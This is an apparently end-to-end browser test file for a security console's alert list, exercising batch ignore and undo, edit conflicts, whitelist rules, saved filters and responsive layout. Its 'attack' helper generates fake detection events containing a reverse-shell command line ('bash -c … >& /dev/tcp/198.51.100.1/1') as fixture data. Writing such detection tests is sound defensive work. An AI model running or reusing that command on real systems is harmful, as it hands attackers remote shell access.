/** People at the alert list, with a real server behind it: many at once, undo, whitelist rules, saved filters, keys, links. */
import assert from 'node:assert/strict'
import { existsSync } from 'node:fs'
import { after, before, type TestContext, test } from 'node:test'
import { type Browser, chromium, type Page } from 'playwright-core'
import { type BuiltConsole, buildConsole } from '../../apps/console/test/built-console.ts'
import { enrolAgent, TestAgent } from '../../apps/server/src/testing/test-agent.ts'
import { TestConsole } from '../../apps/server/src/testing/test-console.ts'
import { startTestServer, type TestServer } from '../../apps/server/src/testing/test-server.ts'
import { chromiumArguments } from '../../tools/chromium.ts'
import { tellShownPage } from '../../tools/shown-page.ts'

const executablePath = process.env.RAMPART_CHROMIUM ?? '/usr/bin/chromium'
const skip = existsSync(executablePath) ? false : `no browser at ${executablePath}`
/** A folder for pictures of what the test does, or nothing. */
const pictures = process.env.RAMPART_PICTURES
const password = 'a new and long password'
let built: BuiltConsole
let shared: TestServer
let browser: Browser
let admin: TestConsole
let agent: TestAgent
let sequence = 0

before(async () => {
  if (skip) return
  built = await buildConsole()
  shared = await startTestServer({ consoleDirectory: built.dist })
  admin = new TestConsole(shared.server.consoleUrl)
  await admin.begin(shared.server.firstUser ?? { name: '', password: '' }, password)
  agent = new TestAgent(await enrolAgent(shared.server.createEnrolmentToken().token))
  await agent.connect()
  browser = await chromium.launch({ executablePath, args: chromiumArguments })
})
after(async () => {
  await browser?.close()
  agent?.cut()
  await shared?.end()
  built?.remove()
})

async function attack(...words: string[]): Promise<void> {
  sequence++
  await agent.deliver(
    sequence,
    words.map((word, index) =>
      agent.started(sequence * 1000 + index, `bash -c ${word} >& /dev/tcp/198.51.100.1/1`, 4242, `/opt/${word}`),
    ),
  )
}

interface Look {
  theme?: 'light' | 'dark'
  size?: { width: number; height: number }
  /** Without the live stream: the page learns nothing of what others do. */
  deaf?: boolean
}

async function open(t: TestContext, path: string, look: Look = {}) {
  const { theme = 'light', size = { width: 1440, height: 900 }, deaf = false } = look
  const context = await browser.newContext({ viewport: size, colorScheme: theme, reducedMotion: 'reduce' })
  await context.addInitScript(() => localStorage.setItem('rampart.language', 'en'))
  const [name = '', value = ''] = admin.cookie.split('=')
  await context.addCookies([{ name, value, url: shared.server.consoleUrl }])
  if (deaf) await context.route('**/api/v1/stream', (route) => route.abort())
  const page = await context.newPage()
  page.setDefaultTimeout(15_000)
  t.after(async () => {
    await tellShownPage(t, page)
    await context.close()
  })
  await page.goto(`${shared.server.consoleUrl}${path}`)
  return page
}

async function picture(page: Page, name: string): Promise<void> {
  if (pictures) await page.screenshot({ path: `${pictures}/${name}.png` })
}

const rows = (page: Page) => page.locator('[data-alert]')
const total = (page: Page, words: RegExp | string) => page.getByText(words).first().waitFor()

test('chosen by key, handled as one, undone as one', { skip }, async (t) => {
  await attack(...Array.from({ length: 12 }, (_, index) => `many-${index}`))
  const page = await open(t, '/alerts?q=many-')
  await total(page, '12 alerts')
  await page.keyboard.press('j')
  await page.keyboard.press('x')
  await page.keyboard.press('j')
  await page.keyboard.press('j')
  await page.keyboard.press('X')
  await page.getByText('3 chosen').waitFor()
  await picture(page, 'list-chosen')
  await page.keyboard.press('i')
  const dialog = page.getByRole('dialog')
  await dialog.getByText('Ignore: 3 alerts').waitFor()
  await picture(page, 'batch-dialog')
  await dialog.getByRole('button', { name: 'Ignore (3)' }).click()
  await dialog.getByText('3 of 3').waitFor()
  await picture(page, 'batch-result')
  await total(page, '9 alerts')
  await dialog.getByRole('button', { name: 'Undo all' }).click()
  await total(page, '12 alerts')
  await dialog.getByRole('button', { name: 'Close' }).last().click()
  await dialog.waitFor({ state: 'hidden' })
  await page.keyboard.press('*')
  await page.getByText('12 chosen').waitFor()
  await page.keyboard.press('Escape')
  await page.getByText('12 chosen').waitFor({ state: 'hidden' })
})

test('one alert is ignored by key, and the toast takes it back', { skip }, async (t) => {
  await attack('single-1')
  const page = await open(t, '/alerts?q=single-1')
  await rows(page).first().waitFor()
  await page.keyboard.press('j')
  await page.keyboard.press('Enter')
  await page.getByRole('button', { name: 'Handled manually' }).waitFor()
  await page.keyboard.press('i')
  await page.getByRole('dialog').getByRole('button', { name: 'Ignore' }).click()
  const toast = page.getByRole('region', { name: 'Messages' })
  await toast.getByText(/^Ignored:/).waitFor()
  await toast.getByRole('button', { name: 'Undo' }).click()
  await toast.getByText(/^Taken back:/).waitFor()
  await page.getByRole('tab', { name: /History/ }).click()
  await page.getByText('taken back').first().waitFor()
  const [alert] = (await admin.call('listAlerts', { query: 'q=single-1' })).body.items
  assert.equal(alert.state, 'unhandled')
})

test('who comes second learns who was first, and can still do it', { skip }, async (t) => {
  await attack('twice-1')
  const [alert] = (await admin.call('listAlerts', { query: 'q=twice-1' })).body.items
  const page = await open(t, `/alerts/${alert.id}`, { deaf: true })
  await page.getByRole('button', { name: 'Handled manually' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByText('What happens').waitFor()
  const body = { operation: 'assign', assignee: 'admin', version: alert.version }
  assert.equal((await admin.call('handleAlert', { id: alert.id, body })).status, 200)
  await dialog.getByRole('button', { name: 'Mark as handled' }).click()
  await dialog.getByText(/admin changed the assignee/).waitFor()
  await picture(page, 'conflict')
  await dialog.getByRole('button', { name: 'Do it anyway' }).click()
  await dialog.waitFor({ state: 'hidden' })
  assert.equal((await admin.call('getAlert', { id: alert.id })).body.state, 'handled')
})

test('a whitelist rule from an alert: refused while too broad, previewed, made, listed, switched, deleted', {
  skip,
}, async (t) => {
  await attack('backup-1', 'backup-2', 'other-3')
  const [alert] = (await admin.call('listAlerts', { query: 'q=backup-1' })).body.items
  const page = await open(t, `/alerts/${alert.id}`)
  await page.getByRole('button', { name: 'Handled manually' }).waitFor()
  await page.keyboard.press('w')
  const dialog = page.getByRole('dialog', { name: 'Add to whitelist' })
  const value = dialog.getByRole('textbox', { name: 'Value' })
  await dialog.getByText('It would have hidden 1 of').waitFor()
  await dialog.getByRole('textbox', { name: 'Operator' }).click()
  await page.getByRole('option', { name: 'contains', exact: true }).click()
  await value.fill('/')
  await dialog.getByText('This rule is not accepted.').waitFor()
  await picture(page, 'whitelist-refused')
  await value.fill('backup-')
  await dialog.getByText('It would have hidden 2 of').waitFor()
  await dialog.getByRole('textbox', { name: 'Why' }).fill('the nightly backup')
  await picture(page, 'whitelist-dialog')
  await dialog.getByRole('button', { name: 'Make the rule' }).click()
  await dialog.waitFor({ state: 'hidden' })
  await page.getByText('Whitelist rule made.').waitFor()
  await attack('backup-4')
  const rule = async () => (await admin.call('listWhitelistRules')).body.items[0]
  assert.equal((await rule()).hits, 1)
  assert.equal((await admin.call('listAlerts', { query: 'q=backup-' })).body.total, 0)

  await page.goto(`${shared.server.consoleUrl}/whitelist`)
  await page.getByText('the nightly backup').first().waitFor()
  await picture(page, 'whitelist-page')
  await page.getByRole('switch').click({ force: true })
  await page.getByText('Off').waitFor()
  assert.equal((await rule()).state, 'disabled')
  await page.getByRole('button', { name: 'Edit' }).click()
  await page.getByRole('dialog').getByText('It would have hidden').waitFor()
  await picture(page, 'whitelist-edit')
  await page.getByRole('dialog').getByRole('button', { name: 'Cancel' }).click()
  await page.getByRole('button', { name: 'Delete' }).click()
  await page.getByText('No whitelist rules').waitFor()
  await page.getByRole('button', { name: 'Undo' }).click()
  await page.getByText('the nightly backup').first().waitFor()
})

test('a filter is saved, begun with, and a link shows the same', { skip }, async (t) => {
  await attack('saved-1', 'saved-2')
  const [alert] = (await admin.call('listAlerts', { query: 'q=saved-1' })).body.items
  await admin.call('handleAlert', {
    id: alert.id,
    body: { operation: 'assign', assignee: 'admin', version: alert.version },
  })
  const page = await open(t, '/alerts?assignee=@me&q=saved-')
  await total(page, '1 alert')
  await page.getByRole('button', { name: 'Saved filters' }).click()
  await page.getByRole('menuitem', { name: 'Save this filter' }).click()
  await page.getByRole('textbox', { name: 'Name', exact: true }).fill('My own')
  await picture(page, 'save-filter')
  await page.getByRole('button', { name: 'Save', exact: true }).click()
  await page.getByRole('dialog').waitFor({ state: 'hidden' })
  await page.getByRole('button', { name: 'Saved filters' }).click()
  await page.getByRole('menuitem', { name: 'Begin with this filter' }).click()
  await page.getByRole('menuitem', { name: 'Begin with no filter' }).waitFor()
  await picture(page, 'saved-filters')

  const again = await open(t, '/alerts')
  await total(again, '1 alert')
  assert.match(again.url(), /assignee=%40me/)
  const linked = await open(t, `/alerts/${alert.id}?assignee=@nobody&q=saved-&tab=history&sort=title`)
  await linked.getByText('Add note').waitFor()
  await total(linked, '1 alert')
  assert.equal(await rows(linked).count(), 1)
})

test('similar alerts are counted and handled together', { skip }, async (t) => {
  await attack('alike-1', 'alike-2')
  const [alert] = (await admin.call('listAlerts', { query: 'q=alike-1' })).body.items
  const page = await open(t, `/alerts/${alert.id}`)
  await page.getByRole('button', { name: 'Similar alerts (s)' }).click()
  const dialog = page.getByRole('dialog')
  await dialog.getByText('Same type').waitFor()
  await picture(page, 'similar')
  await dialog.getByRole('button', { name: 'Handle all' }).first().click()
  await page
    .getByRole('dialog')
    .getByText(/Handled manually: \d+ alerts/)
    .waitFor()
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /Mark as handled \(/ })
    .click()
  await page.getByRole('dialog').getByRole('button', { name: 'Undo all' }).waitFor()
  assert.equal((await admin.call('listAlerts', { query: 'q=alike-' })).body.total, 0)
})

for (const [name, look] of Object.entries<Look>({
  dark: { theme: 'dark' },
  'narrow-1024': { size: { width: 1024, height: 768 } },
  'telephone-390': { size: { width: 390, height: 844 } },
}))
  test(`chosen alerts and their bar fit: ${name}`, { skip }, async (t) => {
    const page = await open(t, '/alerts?handled=all', look)
    await rows(page).first().waitFor()
    await rows(page).first().getByRole('checkbox').click()
    await page.getByText('1 chosen').waitFor()
    await picture(page, `list-${name}`)
    const overflow = Number(await page.evaluate('document.documentElement.scrollWidth - innerWidth'))
    assert.ok(overflow <= 0, `${overflow} px too wide`)
    await page.goto(`${shared.server.consoleUrl}/whitelist`)
    await page.getByText('the nightly backup').first().waitFor()
    await picture(page, `whitelist-${name}`)
  })
